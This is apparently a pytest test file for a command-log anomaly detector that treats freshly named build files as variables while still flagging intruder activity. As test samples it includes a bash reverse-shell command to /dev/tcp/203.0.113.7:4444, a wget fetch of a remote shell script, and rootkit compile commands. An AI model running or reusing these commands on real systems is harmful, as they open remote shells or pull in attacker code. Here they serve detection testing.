"""Volatile argument slots (mimizuku.engine.detectors.commands): a position that takes a fresh file name
almost every time in training is a variable, not evidence; one that holds the same names is not."""
from __future__ import annotations

import copy
import datetime as dt
import pickle
import random
import string

import alert_factory as F
import numpy as np
import pytest

from mimizuku import Mimizuku
from mimizuku.engine.detectors.commands import CommandDetector, file_words, fold_volatile
from mimizuku.engine.features import command_tokens, path_tokens

M = dt.timedelta(minutes=1)
DEV, HID = "dev-ws-02", "005"
ROUTINE = (["git", "status"], ["git", "diff"], ["make"], ["ls", "-la"], ["vim", "main.c"],
           ["git", "commit", "-m", "fix tests"], ["cat", "README.md"], ["git", "pull", "--rebase"])


def _name(rng: random.Random) -> str:
    """A random all-letter file name, as a build system's scratch names (no digit to strip)."""
    return "".join(rng.choices(string.ascii_lowercase, k=6))


def compile_cmd(obj: str, src: str, t: dt.datetime):
    return F.command(t, ["cc", "-O2", "-g", "-Wall", "-c", "-o", f"build/{obj}.o", f"src/{src}.c"],
                     user="dev", agent=DEV, agent_id=HID)


def dev_cmd(argv, t: dt.datetime):
    return F.command(t, argv, user="dev", agent=DEV, agent_id=HID)


def _developer(rng: random.Random, days: int, compiles_per_day: int, routine_per_compile: int, names=None):
    """A developer's days: routine commands and compiles, of fresh names unless ``names`` are given."""
    out = []
    for d in range(days):
        t = F.BASE + dt.timedelta(days=d, hours=9)
        for i in range(compiles_per_day):
            at = t + i * M
            out.extend(dev_cmd(rng.choice(ROUTINE), at) for _ in range(routine_per_compile))
            obj, src = (rng.choice(names),) * 2 if names else (_name(rng), _name(rng))
            out.append(compile_cmd(obj, src, at + dt.timedelta(seconds=20)))
    return out


def _fleet(days: int = 4):
    """Other hosts' routine commands (the fleet the developer's workstation belongs to)."""
    return [a for a in F.normal_fleet(days=days) if "data" in a and "audit" in a["data"]]


@pytest.fixture(scope="module")
def scratch_builds():
    """A developer compiling randomly named files (3 days × 10 compiles: 30 fresh pairs) among
    a busy workstation's routine (1,500 commands per compile: compiles are 0.07 % of the
    training, so without the fold a new one is as rare as the calibration's tail)."""
    return _fleet() + _developer(random.Random(1), 3, 10, 1500)


@pytest.fixture(scope="module")
def scratch_builds_quiet():
    """The same developer on a quiet workstation (3 routine commands per compile)."""
    return _fleet() + _developer(random.Random(1), 3, 10, 3)


@pytest.fixture(scope="module")
def stable_project():
    """A project of 24 sources rebuilt again and again: 24 names over 144 compiles."""
    rng = random.Random(2)
    names = [_name(rng) for _ in range(24)]
    return _fleet() + _developer(rng, 3, 48, 30, names=names)


def _fit(det, alerts):
    # a few hundred training commands cannot vouch for the default share (1e-4, which needs ten
    # thousand): the budget of a small fleet
    det.set_params(contamination=1e-3)
    return det.fit([a for a in alerts if det.applies(a)])


def _later(minutes: int = 0) -> dt.datetime:
    return F.BASE + dt.timedelta(days=6, hours=11, minutes=minutes)


def _reasons(det, alert):
    return " | ".join(det.explain(det.key(alert), alert))


REVERSE_SHELL = ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]


# --- what counts as a file name in a slot -----------------------------------------------------

@pytest.mark.parametrize("cmd,words", [
    ("cc -O2 -g -Wall -c -o build/foxosg.o src/vhuwzl.c", [("foxosg", "o"), ("vhuwzl", "c")]),
    ("cc -o /tmp/rk.o /tmp/rk.c", [("rk", "o"), ("rk", "c")]),     # /tmp stays a word of its own
    ("python3 /srv/jobs/report-daily.py --out x.json", [("report-daily", "py"), ("x", "json")]),
    ("wget http://198.51.100.7/x.sh", []),                          # a URL's words are never folded
    ("tar xzf pkg.tar.gz", []),                                     # one extension only
    ("ping pool.example.com", []),                                  # nor host names
    ("ls -la build", []),
])
def test_file_words(cmd, words):
    toks = command_tokens(cmd)
    assert [(s, e) for _p, s, e in file_words(toks)] == words
    assert all(p == toks[0] for p, _s, _e in file_words(toks))


def test_folding_touches_only_the_names_of_volatile_extensions():
    toks = command_tokens("cc -Wall -o /tmp/rk.o /tmp/rk.c ; bash -i >& /dev/tcp/x/1")
    got = fold_volatile(toks, frozenset({"o"}))
    assert "var:*.o" in got and "w:rk.o" not in got and "w:rk.c" in got
    assert [t for t in got if not t.startswith("var:")] == [t for t in toks if t != "w:rk.o"]
    assert fold_volatile(toks, None) is toks and fold_volatile(toks, frozenset({"py"})) is toks


# --- 1. fresh scratch names are not evidence --------------------------------------------------

def test_a_compile_of_two_new_random_names_is_normal_where_names_are_always_new(scratch_builds):
    det = _fit(CommandDetector(), scratch_builds)
    assert {(DEV, "prog:cc", "o"), (DEV, "prog:cc", "c")} <= set(det.volatile_slots_)
    new = compile_cmd("foxosg", "vhuwzl", _later())
    assert det.key(new)[1] == det.key(compile_cmd("qwerty", "asdfgh", _later()))[1]
    assert {"var:*.o", "var:*.c", "w:build", "w:src"} <= set(det.key(new)[1])
    assert det.predict([new]).tolist() == [0]
    assert "foxosg" not in _reasons(det, new) and "vhuwzl" not in _reasons(det, new)
    # reasons quote the nearest training compile with its names folded, as the key has them
    assert "build/*.o src/*.c" in _reasons(det, new)
    # the same training without the fold: both names are new words, and the compile is flagged
    plain = _fit(CommandDetector(volatile_min_words=None), scratch_builds)
    assert plain.volatile_slots_ == {}
    assert plain.predict([new]).tolist() == [1]
    assert "never seen for agent 'dev-ws-02': foxosg.o, vhuwzl.c" in _reasons(plain, new)


def test_slots_are_per_agent(scratch_builds):
    det = _fit(CommandDetector(), scratch_builds)
    elsewhere = F.command(_later(), ["cc", "-O2", "-g", "-Wall", "-c", "-o", "build/foxosg.o", "src/vhuwzl.c"],
                          user="dev", agent="web-01", agent_id="001")
    assert "w:foxosg.o" in det.key(elsewhere)[1]
    assert det.predict([elsewhere]).tolist() == [1]


# --- 2. a stable project's names stay evidence ------------------------------------------------

def test_a_new_name_in_a_project_that_rebuilds_the_same_files_is_still_new(stable_project):
    det = _fit(CommandDetector(), stable_project)
    assert det.volatile_slots_ == {}     # 24 names, but 144 compiles of them: no generator of names
    rootkit = dev_cmd(["cc", "-O2", "-g", "-Wall", "-c", "-o", "build/rootkit.o", "src/rootkit.c"], _later())
    assert det.predict([rootkit]).tolist() == [1]
    assert "never seen for agent 'dev-ws-02': rootkit.o, rootkit.c" in _reasons(det, rootkit)
    # it is the share of fresh names that keeps this slot: counting distinct names alone would
    # fold the rootkit into the project
    lax = _fit(CommandDetector(volatile_min_fresh=0.0), stable_project)
    assert (DEV, "prog:cc", "c") in lax.volatile_slots_
    assert lax.predict([rootkit]).tolist() == [0]


# --- 3. training keys merge; the model round-trips ---------------------------------------------

def test_training_keys_merge_and_the_model_round_trips(scratch_builds_quiet, tmp_path):
    plain = _fit(CommandDetector(volatile_min_words=None), scratch_builds_quiet)
    model = Mimizuku(detectors=("commands",)).fit(scratch_builds_quiet)
    det = model.detectors_["commands"]
    # 30 compiles of fresh names were 30 situations; folded they are one, seen 30 times
    assert det.n_keys_ == plain.n_keys_ - 29 and det.n_alerts_ == plain.n_alerts_
    keys = det.ref_keys_
    assert len(set(keys)) == len(keys)
    folded = [k for k in keys if "var:*.o" in k[1]]
    assert len(folded) == 1 and det.ref_weights_[keys.index(folded[0])] == 30
    model.save_model(tmp_path / "m")
    loaded = Mimizuku.load_model(tmp_path / "m")
    assert loaded.detectors_["commands"].volatile_slots_ == det.volatile_slots_
    test = [compile_cmd("foxosg", "vhuwzl", _later()), dev_cmd(REVERSE_SHELL, _later(1)),
            dev_cmd(["cc", "-o", "/tmp/rk.o", "/tmp/rk.c"], _later(2)), dev_cmd(["git", "status"], _later(3))]
    a = [(r["score"], r["anomaly"]) for r in model.score_records(test)]
    b = [(r["score"], r["anomaly"]) for r in loaded.score_records(test)]
    assert a == b
    assert [x[1] for x in a[:2]] == [False, True] and not a[3][1]


def test_a_model_pickled_before_slots_existed_loads_and_scores(scratch_builds_quiet):
    det = _fit(CommandDetector(), scratch_builds_quiet)
    old = copy.copy(det)
    for name in ("volatile_slots_", "volatile_min_words", "volatile_min_fresh"):
        del old.__dict__[name]
    old = pickle.loads(pickle.dumps(old))
    assert old.get_params()["volatile_min_words"] == det.volatile_min_words   # the nightly job compares params
    new = compile_cmd("foxosg", "vhuwzl", _later())
    assert "w:foxosg.o" in old.key(new)[1]                # it folds nothing: it was fitted without slots
    assert np.isfinite(old.score_samples([new, dev_cmd(REVERSE_SHELL, _later())])).all()


def test_keys_a_folding_model_shared_are_counted_unfolded(scratch_builds_quiet):
    # the nightly job lets the new detectors reuse the keys the model in use computed
    # (AnomalyFilter.share_keys, Detector.observe(key=)): those are folded, the new fit must learn
    # from names
    old = _fit(CommandDetector(), scratch_builds_quiet)
    new = CommandDetector()
    new.begin_fit()
    for a in scratch_builds_quiet:
        if new.applies(a):
            new.observe(a, key=old.key(a))
    new.end_fit()
    assert new.volatile_slots_ == old.volatile_slots_ != {}
    assert new.ref_keys_ == old.ref_keys_
    assert np.array_equal(new.decision_scores_, old.decision_scores_)


def test_partitions_learn_the_slots_together(scratch_builds_quiet):
    # each half holds 15 fresh names, under the 20 a slot needs: only their merge has the slot
    cmds = [a for a in scratch_builds_quiet if CommandDetector().applies(a)]
    one = _fit(CommandDetector(), cmds)
    parts = []
    for half in (cmds[: len(cmds) // 2], cmds[len(cmds) // 2:]):
        d = CommandDetector()
        d.begin_fit()
        for a in half:
            d.observe(a)
        parts.append(d.partial_state())
    merged = CommandDetector()
    merged.begin_fit()
    for p in parts:
        merged.merge_state(p)
    merged.end_fit()
    assert merged.volatile_slots_ == one.volatile_slots_ != {}
    assert merged.ref_keys_ == one.ref_keys_
    assert np.array_equal(merged.decision_scores_, one.decision_scores_)


def test_a_refit_starts_clean(scratch_builds_quiet, stable_project):
    # the old slots must not fold the new training: the refit equals a fresh fit
    det = _fit(CommandDetector(), scratch_builds_quiet)
    assert det.volatile_slots_
    _fit(det, stable_project)
    fresh = _fit(CommandDetector(), stable_project)
    assert det.volatile_slots_ == {} and det.ref_keys_ == fresh.ref_keys_
    assert np.array_equal(det.decision_scores_, fresh.decision_scores_)
    assert "w:foxosg.o" in det.key(compile_cmd("foxosg", "vhuwzl", _later()))[1]


# --- 4. what an intruder does on that workstation still counts --------------------------------

@pytest.mark.parametrize("argv,why", [
    (REVERSE_SHELL, "/dev/tcp"),
    (["cc", "-o", "/tmp/rk.o", "/tmp/rk.c"], "tmp"),
    (["cc", "-O2", "-g", "-Wall", "-c", "-o", "/dev/shm/foxosg.o", "src/vhuwzl.c"], "shm"),
])
def test_an_intruders_commands_are_still_flagged_after_the_fold(scratch_builds, argv, why):
    det = _fit(CommandDetector(), scratch_builds)
    assert det.volatile_slots_
    alert = dev_cmd(argv, _later())
    assert det.predict([alert]).tolist() == [1]
    assert why in _reasons(det, alert)


def test_fresh_names_no_longer_set_the_calibrations_tail(scratch_builds_quiet):
    # on a quiet workstation the 30 compiles, two never-seen words each, were training's most
    # novel situations: they made the tail the threshold is drawn in, and a reverse shell
    # scored no higher than a compile. Folded, they are one situation seen 30 times.
    shell = dev_cmd(REVERSE_SHELL, _later())
    plain = _fit(CommandDetector(volatile_min_words=None), scratch_builds_quiet)
    det = _fit(CommandDetector(), scratch_builds_quiet)
    assert det.predict([shell]).tolist() == [1]
    # (the calibrator no longer lets one frequent training maximum cap what lies beyond it, so the
    # unfolded model flags the shell too; the folded one still ranks it higher)
    assert det.score_samples([shell])[0] >= plain.score_samples([shell])[0]
    assert det.threshold_ == plain.threshold_


def test_the_fold_leaves_each_hosts_surprise_as_the_names_came(scratch_builds_quiet):
    # the fresh names are no evidence, but the host does see new words all day: how surprising
    # a new word there is (Good–Turing) is measured on the names as they came
    plain = _fit(CommandDetector(volatile_min_words=None), scratch_builds_quiet)
    det = _fit(CommandDetector(), scratch_builds_quiet)
    assert det.scope_surprise_ == plain.scope_surprise_
    assert det.token_counts_[("agent", DEV)]["var:*.o"] == 30
    assert "w:foxosg.o" not in det.token_counts_[("agent", DEV)]


@pytest.mark.parametrize("name", ["092b9a734a7979ef", "ffe3648132533088", "ebaa765583017440", "3f2a9b1c"])
def test_every_hash_like_name_normalises_alike(name):
    """An upload's thumbnail: its name is a hash whose letters may all come before its digits
    (``ffe3648132533088``), which the mixed-name rule does not see; it must normalise as the
    others do, or the web app's routine ``convert`` is a never-seen command one upload in thirty."""
    up = f"/var/www/app/shared/uploads/2025/01/{name}.jpg"
    thumb = f"/var/www/app/shared/uploads/2025/01/{name}_300x300.jpg"
    ref = command_tokens("convert /var/www/app/shared/uploads/2025/01/092b9a734a7979ef.jpg -resize 300x300 -strip "
                         "/var/www/app/shared/uploads/2025/01/092b9a734a7979ef_300x300.jpg")
    assert command_tokens(f"convert {up} -resize 300x300 -strip {thumb}") == ref
    assert "w:*.jpg" in ref and "w:*_*.jpg" in ref
    assert path_tokens(up) == path_tokens("/var/www/app/shared/uploads/2025/01/092b9a734a7979ef.jpg")
    # runs of digits alone or letters alone are dropped, as before
    assert command_tokens("tar czf /backup/db-20250120.tar.gz") == command_tokens("tar czf /backup/db-20250121.tar.gz")


def test_a_model_fitted_before_the_rule_reads_hash_like_names_as_it_was_fitted():
    """Its vocabulary holds the names as they were read then (``.jpg``, not ``*.jpg``): it keeps
    reading them so until the nightly job refits it, and a refit in place reads them anew."""
    m = Mimizuku(detectors=("commands", "files")).fit(F.normal_fleet(days=2))
    cmd = F.command(F.BASE, ["convert", "/var/www/app/uploads/ffe3648132533088.jpg"], user="www-data")
    fim = F.fim(F.BASE, "/var/www/app/uploads/ffe3648132533088.jpg", event="added", user="www-data")
    for name, alert in (("commands", cmd), ("files", fim)):
        d = m.detectors_[name]
        assert d.key_scheme() == "hash-names"
        new = d.key(alert)
        del d.__dict__["hash_names_"]                       # as pickled before the rule
        assert d.key_scheme() is None and d.key(alert) != new
        d.begin_fit()                                       # a refit in place: the rule applies
        assert d.key_scheme() == "hash-names" and d.key(alert) == new
